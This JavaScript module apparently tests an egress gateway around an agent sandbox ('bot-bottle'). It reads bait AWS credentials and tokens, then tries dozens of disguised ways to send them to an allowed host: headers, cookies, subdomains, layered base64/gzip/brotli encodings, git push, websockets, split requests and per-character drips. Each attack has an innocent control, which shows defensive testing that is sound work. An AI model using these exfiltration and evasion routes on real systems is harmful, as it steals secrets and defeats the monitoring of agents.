/** Attempts to send what is not to leave to a host that is allowed, in disguise. */
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { disguised, packOf } from './disguises.mjs';
import { ask, askEach, askHttp2, askPlainly, message } from './leak-ways.mjs';
import { NOT_MADE } from './wire.mjs';

const ownFile = (name) => JSON.parse(readFileSync(join(import.meta.dirname, name), 'utf8'));

const BAITS = [join(process.env.HOME ?? '/', '.aws/credentials'), '/etc/bot-bottle/credentials'];

/** As a thief finds it: in the home folder, or where it was copied from, as root may read less than the agent. */
function bait() {
  for (const path of BAITS) {
    try {
      return readFileSync(path, 'utf8');
    } catch {
      continue;
    }
  }
  throw new Error(NOT_MADE);
}

/** What lies in the bottle, by its name. */
function found(name) {
  if (name === 'bait') return bait();
  return { ...ownFile('settings.json'), ...ownFile('notes.json') }[`${name}Token`];
}

/** Side by side with others these take long. */
const DEADLINE_MS = 6_000;

/** The same code sends what is there, and what is no secret. */
const leak = (name, send) => ({
  deadlineMs: DEADLINE_MS,
  attack: (t, nonce) => send(t, nonce, found(name)),
  control: (t, nonce) => send(t, nonce, t.innocent[name]),
});
const known = (send) => leak('protected', send);

const JSON_TYPE = { 'content-type': 'application/json' };
const FORM_TYPE = { 'content-type': 'application/x-www-form-urlencoded' };
const BYTES_TYPE = { 'content-type': 'application/octet-stream' };
const post = (t, nonce, { body, headers = BYTES_TYPE }) => ask(t, nonce, { method: 'POST', headers, body });
const query = (t, nonce, value) => ask(t, nonce, { rest: `?d=${value}` });

/** In a disguise, in the query or as the content. */
const inQuery = (...steps) => known((t, nonce, word) => query(t, nonce, disguised(word, steps)));
const inContent = (...steps) => known((t, nonce, word) => post(t, nonce, { body: disguised(word, steps) }));

const BOUNDARY = 'b0undary';
const multipart = (t, nonce, { fileName, content }) =>
  post(t, nonce, {
    body: `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\n\r\n${content}\r\n--${BOUNDARY}--\r\n`,
    headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` },
  });

const halves = (word) => [word.slice(0, word.length / 2), word.slice(word.length / 2)];
const piecesOf = (word, size) => word.match(new RegExp(`.{1,${size}}`, 'g'));

/** Longer than a gateway may wait for. */
const LONG_BYTES = 400 * 1024;

/** A 512-byte header and a file, as much as tar(1) needs. */
function tarOf(word) {
  const [head, file] = [Buffer.alloc(512), Buffer.alloc(512)];
  head.write('notes.txt');
  file.write(word);
  return Buffer.concat([head, file]).toString('latin1');
}

const PLAIN = {
  'leak-path': known((t, nonce, word) => ask(t, nonce, { rest: `/${word}` })),
  'leak-query': inQuery(),
  'leak-header': known((t, nonce, word) => ask(t, nonce, { headers: { 'x-note': word } })),
  'leak-header-name': known((t, nonce, word) => ask(t, nonce, { headers: { [`x-${word}`]: '1' } })),
  'leak-user-agent': known((t, nonce, word) => ask(t, nonce, { headers: { 'user-agent': `curl/${word}` } })),
  'leak-cookie': known((t, nonce, word) => ask(t, nonce, { headers: { cookie: `a=1; sid=${word}; b=2` } })),
  'leak-basic': known((t, nonce, word) =>
    ask(t, nonce, { headers: { authorization: `Basic ${disguised(`me:${word}`, ['base64'])}` } }),
  ),
  'leak-subdomain': known((t, nonce, word) => ask(t, nonce, { label: word })),
  'leak-labels': leak('inLabels', (t, nonce, word) =>
    ask(t, nonce, { label: halves(String(disguised(word, ['hex']))).join('.') }),
  ),
  'leak-content': known((t, nonce, word) =>
    post(t, nonce, { body: JSON.stringify({ note: word }), headers: JSON_TYPE }),
  ),
  'leak-form': known((t, nonce, word) =>
    post(t, nonce, { body: `a=1&note=${disguised(word, ['percent'])}&b=2`, headers: FORM_TYPE }),
  ),
  'leak-file-name': known((t, nonce, word) => multipart(t, nonce, { fileName: word, content: 'nothing' })),
  'leak-put': known((t, nonce, word) => ask(t, nonce, { method: 'PUT', headers: BYTES_TYPE, body: word })),
  'leak-trace': known((t, nonce, word) => ask(t, nonce, { method: 'TRACE', headers: { 'x-note': word } })),
  'leak-trailer': known((t, nonce, word) =>
    ask(t, nonce, {
      method: 'POST',
      headers: { ...BYTES_TYPE, trailer: 'x-note' },
      pieces: ['nothing'],
      trailers: { 'x-note': word },
    }),
  ),
  'leak-plain-http': known((t, nonce, word) => askPlainly(t, nonce, { rest: `?d=${word}` })),
  'leak-http2': known((t, nonce, word) => askHttp2(t, nonce, { headers: { 'x-note': word } })),
  'leak-http2-content': known((t, nonce, word) => askHttp2(t, nonce, { body: word })),
  'leak-websocket': known((t, nonce, word) => message(t, nonce, [`{"note":"${word}"}`])),
  'leak-websocket-pieces': leak('inFrames', (t, nonce, word) => message(t, nonce, piecesOf(word, 5))),
};

const DISGUISED = {
  'leak-base64': inContent('base64'),
  'leak-base64-lines': inContent('base64', 'lines'),
  'leak-base64url': inQuery('base64url'),
  'leak-base32': inQuery('base32'),
  'leak-hex': inQuery('hex'),
  'leak-hex-colons': inContent('colons'),
  'leak-percent-twice': inQuery('percent', 'percent'),
  'leak-json-escapes': inContent('json'),
  'leak-entities': inContent('entities'),
  'leak-numbers': inContent('numbers'),
  'leak-utf16': inContent('utf16'),
  'leak-quoted-printable': inContent('quotedPrintable'),
  'leak-reversed': inQuery('reversed'),
  'leak-gzip': inContent('gzip'),
  'leak-deflate': inContent('deflate'),
  'leak-encoding-br': known((t, nonce, word) =>
    post(t, nonce, {
      body: disguised(word, ['brotli']),
      headers: { ...BYTES_TYPE, 'content-encoding': 'br' },
    }),
  ),
  'leak-zip': inContent('zip'),
  'leak-tar-gzip': known((t, nonce, word) => post(t, nonce, { body: disguised(tarOf(word), ['gzip']) })),
  'leak-gzip-base64': inQuery('gzip', 'base64url'),
  'leak-base64-thrice': inContent('base64', 'base64', 'base64'),
  'leak-three-deep': inContent('hex', 'gzip', 'base64'),
  'leak-git-push': known((t, nonce, word) =>
    ask(t, nonce, {
      rest: '/x.git/git-receive-pack',
      method: 'POST',
      headers: { 'content-type': 'application/x-git-receive-pack-request' },
      body: Buffer.concat([Buffer.from('0000'), packOf(Buffer.from(word))]),
    }),
  ),
};

const CUT_UP = {
  'leak-two-parameters': leak('inParameters', (t, nonce, word) => {
    const [one, other] = halves(word);
    return ask(t, nonce, { rest: `?d1=${one}&x=1&d2=${other}` });
  }),
  'leak-two-headers': leak('inHeaders', (t, nonce, word) => {
    const [one, other] = halves(String(disguised(word, ['base64'])));
    return ask(t, nonce, { headers: { 'x-note-1': one, 'x-note-2': other } });
  }),
  'leak-chunks': leak('inChunks', (t, nonce, word) =>
    ask(t, nonce, { method: 'POST', headers: BYTES_TYPE, pieces: piecesOf(word, 3) }),
  ),
  'leak-behind-noise': known((t, nonce, word) =>
    post(t, nonce, { body: Buffer.concat([randomBytes(LONG_BYTES), Buffer.from(word)]) }),
  ),
  'leak-drip': leak('inDrops', (t, nonce, word) =>
    askEach(
      t,
      nonce,
      [...word].map((character) => `?c=${character}`),
    ),
  ),
  'leak-two-requests': leak('inRequests', (t, nonce, word) =>
    askEach(
      t,
      nonce,
      halves(word).map((half) => `?d=${half}`),
    ),
  ),
};

const BY_SHAPE = {
  'leak-github-token': leak('githubToken', (t, nonce, word) =>
    post(t, nonce, { body: disguised(JSON.stringify({ note: word }), ['base64']) }),
  ),
  'leak-npm-token': leak('npmToken', query),
  'leak-aws-key': leak('awsKey', (t, nonce, word) => ask(t, nonce, { headers: { 'x-note': word } })),
  'leak-private-key': leak('privateKey', (t, nonce, word) =>
    multipart(t, nonce, { fileName: 'a.txt', content: word }),
  ),
  'leak-bait': leak('bait', (t, nonce, word) => post(t, nonce, { body: word })),
  'leak-bait-base64': leak('bait', (t, nonce, word) => post(t, nonce, { body: disguised(word, ['base64']) })),
};

export const LEAKS = { ...PLAIN, ...DISGUISED, ...CUT_UP, ...BY_SHAPE };
